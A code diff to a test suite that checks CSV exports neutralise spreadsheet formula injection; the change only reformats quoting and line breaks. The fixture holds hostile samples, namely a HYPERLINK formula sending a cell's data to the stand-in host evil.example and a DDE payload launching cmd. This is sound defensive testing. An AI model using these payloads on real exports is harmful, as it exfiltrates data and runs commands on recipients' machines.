@@ -9,7 +9,7 @@ describe('CSV exports of what strangers typed', () => {
   let hub: TestHub;
   let f: Client;
   let member: string;
-  const hostile = { fullName: '=HYPERLINK("http://evil.example/?"&A2;"Aminata")', organisation: '+cmd|\' /C calc\'!A0' };
+  const hostile = { fullName: '=HYPERLINK("http://evil.example/?"&A2;"Aminata")', organisation: "+cmd|' /C calc'!A0" };
 
   before(async () => {
     hub = await startConsoleHub();
@@ -35,7 +35,9 @@ describe('CSV exports of what strangers typed', () => {
     const other = rows.find((r) => r.id !== member)!;
     assert.equal(other.nom, "'@SUM(1+1)*cmd");
     assert.equal(other.organisation, "'-2+3");
-    for (const r of rows) for (const [k, v] of Object.entries(r)) if (k !== 'téléphone') assert.doesNotMatch(v, /^[=+\-@\t\r]/, `no cell starts a formula except the phone's text formula: ${v}`);
+    for (const r of rows)
+      for (const [k, v] of Object.entries(r))
+        if (k !== 'téléphone') assert.doesNotMatch(v, /^[=+\-@\t\r]/, `no cell starts a formula except the phone's text formula: ${v}`);
   });
 
   it('neutralises formulas in the attendance CSV', async () => {
